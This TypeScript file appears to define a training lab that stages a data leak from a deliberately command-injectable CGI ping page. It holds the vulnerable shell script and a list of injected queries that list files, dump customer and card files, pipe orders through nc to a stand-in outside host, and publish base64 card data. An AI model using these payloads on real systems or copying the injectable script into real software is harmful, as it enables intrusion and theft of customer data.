/** A web page that pings lets commands be injected, and data leaves in three different ways: in the page itself, to an outside address, and as a published file. */
import { once } from 'node:events';
import { createServer } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { buildImage } from '../support/runtimes/image.ts';
import { script, userland, type Lab } from './lab.ts';

const IMAGE = 'labs.test/ping:0.9';
const PORT = 18_100;
/** Where the intruder waits; an address of its own within loopback. */
const OUTSIDE = { host: '127.0.9.9', port: 18_101 };

const PING = `#!/bin/sh
host=$(httpd -d "\${QUERY_STRING#host=}")
printf 'Content-Type: text/plain\\r\\n\\r\\n'
sh -c "ping -c 1 -W 1 $host" 2>&1
`;

const QUERIES = [
  '127.0.0.1',
  '127.0.0.1',
  '127.0.0.1; id; ls /data',
  '127.0.0.1; cat /data/customers.csv',
  `127.0.0.1; tar c /data/orders | gzip | nc ${OUTSIDE.host} ${OUTSIDE.port}`,
  '127.0.0.1; base64 /data/cards.txt > /www/logo.txt',
  '127.0.0.1; rm /www/logo.txt',
];

export const PING_APP: Lab = {
  name: 'ping-app',
  story: 'Customer data has leaked from a web page that pings.',
  async play({ docker, onEnd }, recorded) {
    const outside = createServer((socket) => socket.resume().on('error', () => undefined));
    outside.listen(OUTSIDE.port, OUTSIDE.host);
    await once(outside, 'listening');
    onEnd(() => void outside.close());
    const image = buildImage(IMAGE, ['/bin/httpd', '-f', '-p', `127.0.0.1:${PORT}`, '-h', '/www'], {}, [
      ...userland('httpd', 'ping', 'nc'),
      { name: 'data/', mode: 0o755 },
      { name: 'data/customers.csv', content: 'name,mail\nAda Example,ada@example.test\nBen Example,ben@example.test\n' },
      { name: 'data/cards.txt', content: 'Ada Example 4111 1111 1111 1111 12/29\nBen Example 5500 0000 0000 0004 01/30\n' },
      { name: 'data/orders/', mode: 0o755 },
      { name: 'data/orders/2026-10.csv', content: 'order,amount\n1,19.90\n2,5.00\n' },
      { name: 'data/orders/2026-11.csv', content: 'order,amount\n3,42.00\n' },
      { name: 'www/', mode: 0o755 },
      { name: 'www/index.html', content: '<form action="/cgi-bin/ping"><input name="host"></form>\n' },
      { name: 'www/cgi-bin/', mode: 0o755 },
      script('www/cgi-bin/ping', PING),
    ]);
    await docker.api.loadImage(image);
    const id = await docker.api.run('ping', { Image: IMAGE, HostConfig: { NetworkMode: 'host' } });
    onEnd(() => docker.api.remove(id));
    await recorded(async () => {
      for (const query of QUERIES) {
        await ask(`/cgi-bin/ping?host=${encodeURIComponent(query)}`);
        if (query.includes('> /www/logo.txt')) await ask('/logo.txt');
        await sleep(150);
      }
    });
  },
};

async function ask(path: string): Promise<void> {
  await (await fetch(`http://127.0.0.1:${PORT}${path}`, { headers: { connection: 'close' } })).text();
}
